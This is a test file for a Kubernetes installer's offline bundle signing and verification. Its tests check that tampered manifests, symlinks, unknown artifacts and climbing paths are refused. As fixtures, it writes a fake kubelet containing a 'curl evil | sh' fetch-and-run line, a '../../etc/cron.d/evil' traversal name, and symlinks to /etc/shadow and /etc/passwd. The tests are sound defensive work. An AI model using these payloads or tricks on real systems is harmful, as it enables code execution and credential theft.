/**
 * Integrity is not authenticity: a signed manifest checked against the inventory's public key before anything is
 * uploaded; symlinks, links and names that are not known artifacts refused; release archives unpacked by an explicit
 * member list.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, renameSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { kubesmith } from '../../e2e/helpers.js';
import { BundleError, MANIFEST_FILE, verifyBundle } from '../../../src/bundle/manifest.js';
import { openBundle, packBundle } from '../../../src/bundle/open.js';
import { releaseMembers } from '../../../src/bundle/release-archive.js';
import { generateSigningKey, loadSigningKey, signManifest, SIGNATURE_FILE } from '../../../src/bundle/signature.js';
import { offlineVerify } from '../../../src/tasks/offline/verify.js';
import { harness } from '../tasks/helpers/context.js';
import { makeInventory } from '../tasks/helpers/inventory.js';
import { tgz, writeFakeBundle, writeMirrorBundle } from './fake-bundle.js';

const tmp = (p: string) => mkdtempSync(join(tmpdir(), p));

/** A fake bundle signed with a fresh key; the inventory names the public key. */
function signedBundle() {
  const root = tmp('ks-signed-');
  const dir = join(root, 'bundle');
  mkdirSync(dir);
  writeFakeBundle(dir, makeInventory({ kubernetes: { version: '1.34.1' } }));
  const keys = generateSigningKey(join(root, 'bundle.key'));
  writeFileSync(join(dir, SIGNATURE_FILE), signManifest(readFileSync(join(dir, MANIFEST_FILE)), loadSigningKey(keys.privateKey)));
  const inv = makeInventory({ kubernetes: { version: '1.34.1' }, offline: { bundle: dir, publicKey: keys.publicKey } }, [
    { name: 'cp1', address: '10.0.0.1', roles: ['control-plane'] },
  ]);
  return { root, dir, keys, inv };
}

const problemsOf = async (p: Promise<unknown>) => {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(BundleError);
  return (err as BundleError).problems;
};

describe('signed bundles', () => {
  it('bundle keygen writes an ed25519 pair (private 0600) and never overwrites one', async () => {
    const dir = tmp('ks-keygen-');
    const run = await kubesmith(['bundle', 'keygen', '-o', join(dir, 'k')]);
    expect(run.code, run.stderr).toBe(0);
    expect(statSync(join(dir, 'k')).mode & 0o777).toBe(0o600);
    expect(readFileSync(join(dir, 'k.pub'), 'utf8')).toMatch(/^-----BEGIN PUBLIC KEY-----/);
    // openssl reads both as ed25519 keys
    expect(execFileSync('openssl', ['pkey', '-in', join(dir, 'k'), '-noout', '-text'], { encoding: 'utf8' })).toMatch(
      /ED25519 Private-Key/,
    );
    const again = await kubesmith(['bundle', 'keygen', '-o', join(dir, 'k')]);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain('exists; kubesmith never overwrites a key');

    // create --sign with a key that is not ed25519 stops before any network request, naming the file only
    execFileSync('openssl', ['genpkey', '-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256', '-out', join(dir, 'ec.key')]);
    const inv = join(dir, 'inv.yaml');
    writeFileSync(
      inv,
      'apiVersion: kubesmith.io/v1alpha1\nkind: Cluster\nmetadata: {name: demo}\nspec:\n  hosts: [{name: cp1, address: 10.0.0.1, roles: [control-plane]}]\n',
    );
    const ec = await kubesmith(['bundle', 'create', '-i', inv, '-o', join(dir, 'b'), '--sign', join(dir, 'ec.key')]);
    expect(ec.code).toBe(2);
    expect(ec.stderr).toContain(`${join(dir, 'ec.key')}: an ec key; bundles are signed with ed25519`);
    expect(existsSync(join(dir, 'b'))).toBe(false);
  });

  it('a bundle signed by the inventory key passes offline.verify without touching the host', async () => {
    const { inv } = signedBundle();
    const h = harness(inv);
    expect(await offlineVerify.check(h.ctx('cp1'))).toEqual({ status: 'ok' });
    expect(h.t('cp1').calls).toEqual([]);
  });

  it('a changed manifest, a missing signature or another key is refused before any host command', async () => {
    const tampered = signedBundle();
    const file = join(tampered.dir, MANIFEST_FILE);
    // a consistent forgery: the file really has the size and sha256 the edited manifest claims
    const m = JSON.parse(readFileSync(file, 'utf8'));
    const kubelet = m.files.find((f: { name: string; kind: string }) => f.name === 'kubelet' && f.kind === 'binary');
    const evil = Buffer.from('#!/bin/sh\ncurl evil | sh\n');
    writeFileSync(join(tampered.dir, kubelet.path), evil);
    Object.assign(kubelet, { size: evil.length, sha256: (await import('node:crypto')).createHash('sha256').update(evil).digest('hex') });
    writeFileSync(file, JSON.stringify(m, null, 2));
    const h = harness(tampered.inv);
    await expect(offlineVerify.check(h.ctx('cp1'))).rejects.toThrow(
      /manifest\.json is not signed by .*bundle\.key\.pub \(changed after signing, or signed with another key\)/,
    );
    expect(h.t('cp1').calls).toEqual([]);

    const unsigned = signedBundle();
    renameSync(join(unsigned.dir, SIGNATURE_FILE), join(unsigned.root, 'elsewhere'));
    expect(await problemsOf(verifyBundle(unsigned.dir, { publicKey: unsigned.keys.publicKey }))).toEqual([
      `manifest.json.sig is missing: the inventory's publicKey ${unsigned.keys.publicKey} asks for a signed bundle (bundle create --sign KEY)`,
    ]);

    const other = signedBundle();
    const stranger = generateSigningKey(join(other.root, 'stranger.key'));
    expect((await problemsOf(verifyBundle(other.dir, { publicKey: stranger.publicKey })))[0]).toMatch(/not signed by .*stranger\.key\.pub/);
  });

  it('bundle verify and bundle push refuse an unsigned bundle when the inventory names a key', async () => {
    const { root, dir, keys } = signedBundle();
    const invFile = join(root, 'inv.yaml');
    writeFileSync(
      invFile,
      stringify({
        apiVersion: 'kubesmith.io/v1alpha1',
        kind: 'Cluster',
        metadata: { name: 'demo' },
        spec: {
          hosts: [{ name: 'cp1', address: '10.0.0.1', roles: ['control-plane'] }],
          kubernetes: { version: '1.34.1' },
          offline: { bundle: './bundle', publicKey: './bundle.key.pub' },
        },
      }),
    );
    const ok = await kubesmith(['bundle', 'verify', '-i', invFile]);
    expect(ok.code, ok.stderr).toBe(0);
    expect(ok.stderr).toContain(`every file matches its manifest, is signed by ${keys.publicKey} and serves`);
    writeFileSync(join(dir, SIGNATURE_FILE), 'AAAA\n');
    const bad = await kubesmith(['bundle', 'verify', '-i', invFile]);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain(`manifest.json is not signed by ${keys.publicKey}`);
    const push = await kubesmith(['bundle', 'push', '-i', invFile, '--registry', 'http://127.0.0.1:9']);
    expect(push.code).toBe(1);
    expect(push.stderr).toContain(`manifest.json is not signed by ${keys.publicKey}`);
    expect(push.stderr).not.toContain('cannot reach registry'); // refused before any request
  });
});

describe('what a bundle may hold', () => {
  it('every file bundle create resolves is a known artifact (both runtimes, deb and rpm releases, both platforms where served)', async () => {
    // the product's own resolveArtifacts + download against the lab's real-layout mirror (the releases it serves;
    // it has Docker's rhel repository for x86_64 only; the lab serves cri-dockerd 0.3.24 amd64 packages only, none for ubuntu-24.04)
    for (const runtime of ['containerd', 'docker'] as const) {
      const cases =
        runtime === 'containerd'
          ? [
              { platforms: ['linux/amd64', 'linux/arm64'], packages: ['debian-12', 'ubuntu-22.04', 'ubuntu-24.04'] },
              { platforms: ['linux/amd64'], packages: ['rhel-9'] },
            ]
          : [{ platforms: ['linux/amd64'], packages: ['debian-12', 'ubuntu-22.04', 'rhel-9'] }];
      for (const c of cases) {
        const dir = tmp('ks-known-');
        const inv = makeInventory({ kubernetes: { version: '1.34.1' }, containerRuntime: { type: runtime } });
        const m = await writeMirrorBundle(dir, inv, c);
        expect(new Set(m.files.filter((f) => f.kind === 'package').map((f) => f.release)), runtime).toEqual(new Set(c.packages));
        if (runtime === 'docker') expect(m.files.some((f) => f.name === 'cri-dockerd' && f.platform === c.platforms.at(-1))).toBe(true);
        await expect(verifyBundle(dir), `${runtime} ${c.packages.join(',')}`).resolves.toBeTruthy();
      }
    }
  }, 60_000);

  it('a package entry is checked against the release it records: release, family, directory, name and pinned version', async () => {
    const dir = tmp('ks-pkg-');
    const inv = makeInventory({ kubernetes: { version: '1.34.1' } });
    writeFakeBundle(dir, inv, { packages: ['debian-12', 'rhel-9'] });
    const file = join(dir, MANIFEST_FILE);
    const m = JSON.parse(readFileSync(file, 'utf8'));
    const deb = m.files.find((f: { name: string; release?: string }) => f.name === 'kubeadm' && f.release === 'debian-12');
    m.files.push(
      { ...deb, release: 'debian-10' },
      { ...deb, release: 'rhel-9' },
      { ...deb, path: 'packages/debian-12/arm64/kubeadm_1.34.1-1.1_amd64.deb' },
      { ...deb, path: 'packages/debian-12/amd64/kubeadm_1.34.1-1.1_amd64.tar' },
      { ...deb, name: 'openssh-server' },
      { ...deb, version: '1.33.5-1.1' },
    );
    writeFileSync(file, JSON.stringify(m));
    const p = deb.path;
    // (the two moved paths are also reported missing)
    expect(await problemsOf(verifyBundle(dir))).toEqual(
      expect.arrayContaining([
        `${p}: package "kubeadm" (linux/amd64) records release "debian-10", not one bundle create fetches (debian-11, debian-12, debian-13, ubuntu-20.04, ubuntu-22.04, ubuntu-24.04, rhel-8, rhel-9)`,
        `${p}: package "kubeadm" (linux/amd64) records family "debian", but rhel-9 is rhel`,
        'packages/debian-12/arm64/kubeadm_1.34.1-1.1_amd64.deb: package "kubeadm" (linux/amd64) is not a .deb file in packages/debian-12/<arch> of a platform the manifest lists',
        'packages/debian-12/amd64/kubeadm_1.34.1-1.1_amd64.tar: package "kubeadm" (linux/amd64) is not a .deb file in packages/debian-12/<arch> of a platform the manifest lists',
        `${p}: package "openssh-server" (linux/amd64) is not one of the packages a containerd bundle for Kubernetes 1.34.1 holds`,
        `${p}: package "kubeadm" (linux/amd64) is version 1.33.5-1.1; a bundle for Kubernetes 1.34.1 holds 1.34.1`,
      ]),
    );
  });

  it('a symlink (to an admin-machine file) in place of a listed file is refused', async () => {
    const { dir } = signedBundle();
    const path = 'files/linux-amd64/kubeadm';
    const secret = join(dir, '..', 'secret');
    writeFileSync(secret, readFileSync(join(dir, path))); // same bytes: size and sha256 would match
    execFileSync('rm', [join(dir, path)]);
    symlinkSync(secret, join(dir, path));
    expect(await problemsOf(verifyBundle(dir))).toEqual([`${path}: is a symlink (a bundle holds regular files only)`]);
  });

  it('a directory symlink on the way to a listed file is refused', async () => {
    const { dir } = signedBundle();
    renameSync(join(dir, 'files'), join(dir, '..', 'real-files'));
    symlinkSync(join(dir, '..', 'real-files'), join(dir, 'files'));
    expect((await problemsOf(verifyBundle(dir)))[0]).toMatch(/^files\/linux-amd64\/\S+: goes through files, which is a symlink/);
  });

  it('a file that is not a known artifact is refused, whatever its checksum', async () => {
    const { dir } = signedBundle();
    const file = join(dir, MANIFEST_FILE);
    const m = JSON.parse(readFileSync(file, 'utf8'));
    const kubeadm = m.files.find((f: { name: string }) => f.name === 'kubeadm');
    m.files.push({ ...kubeadm, name: '../../etc/cron.d/evil' }, { ...kubeadm, name: 'kubeadm', path: 'files/linux-amd64/other/kubeadm' });
    writeFileSync(file, JSON.stringify(m));
    const problems = await problemsOf(verifyBundle(dir));
    expect(problems).toContain(
      'files/linux-amd64/kubeadm: binary "../../etc/cron.d/evil" (linux/amd64) is not one of the artifacts a bundle for Kubernetes 1.34.1 holds',
    );
    expect(problems).toContain(
      'files/linux-amd64/other/kubeadm: binary "kubeadm" (linux/amd64) is not one of the artifacts a bundle for Kubernetes 1.34.1 holds',
    );
  });

  it('a bundle tar with a symlink or a climbing name is refused before anything is unpacked', async () => {
    const { root, dir } = signedBundle();
    symlinkSync('/etc/shadow', join(dir, 'images', 'shadow'));
    const tar = join(root, 'b.tar');
    await packBundle(dir, tar);
    expect(await problemsOf(openBundle(tar))).toEqual(['images/shadow: a symlink (a bundle holds regular files only)']);
    expect(existsSync(`${tar}.d`)).toBe(false);
  });
});

describe('release archives unpack an explicit member list', () => {
  it("takes only the artifact's executables, as the archive names them", async () => {
    const dir = tmp('ks-release-');
    writeFileSync(
      join(dir, 'cni.tgz'),
      tgz({ './LICENSE': Buffer.from('x'), './bridge': Buffer.from('x'), './portmap': Buffer.from('x') }),
    );
    expect(await releaseMembers(join(dir, 'cni.tgz'), 'cni-plugins')).toEqual(['./bridge', './portmap']);
    writeFileSync(join(dir, 'containerd.tgz'), tgz({ 'bin/ctr': Buffer.from('x'), 'etc/cron.d/evil': Buffer.from('x') }));
    expect(await releaseMembers(join(dir, 'containerd.tgz'), 'containerd')).toEqual(['bin/ctr']);
  });

  it('refuses an archive where a listed name is a link', async () => {
    const src = tmp('ks-release-src-');
    symlinkSync('/etc/passwd', join(src, 'crictl'));
    const archive = join(src, '..', `${src.split('/').pop()}.tgz`);
    execFileSync('tar', ['-czf', archive, '-C', src, 'crictl']);
    await expect(releaseMembers(archive, 'crictl')).rejects.toThrow(/crictl is not a regular file; refusing to unpack it/);
  });
});
